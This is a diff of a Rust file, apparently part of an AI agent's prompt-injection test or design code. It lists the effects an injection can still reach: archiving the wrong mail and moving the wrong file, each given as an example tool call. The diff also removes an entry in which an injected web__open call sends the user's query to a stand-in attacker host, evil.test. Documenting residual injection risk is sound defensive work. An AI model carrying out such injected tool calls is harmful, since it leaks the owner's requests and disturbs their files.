@@ -225,11 +225,10 @@ fn table(strict: bool, then: Then, counts: &[(&'static str, Count)]) -> String {
 }
 
 /// What an injection still reaches in a default home, as `docs/injection.md` explains: a choice among the owner's own things,
-/// with a tool that the task uses, and a reading that a pinned description orders before anything was read.
-const KNOWN: [&str; 3] = [
+/// with a tool that the task uses.
+const KNOWN: [&str; 2] = [
     r#"the wrong mails filed away: mail__archive {"id":"m-1102"}"#,
     r#"the wrong file moved: files__move {"folder":"drafts","path":"desk/will.pdf"}"#,
-    r#"pinned: an address with what was asked: web__open {"url":"https://evil.test/log?q=theatre"}"#,
 ];
 /// The most legitimate effects that ask, of a thousand (design 3.3).
 const MOST_ASKED: usize = 100;
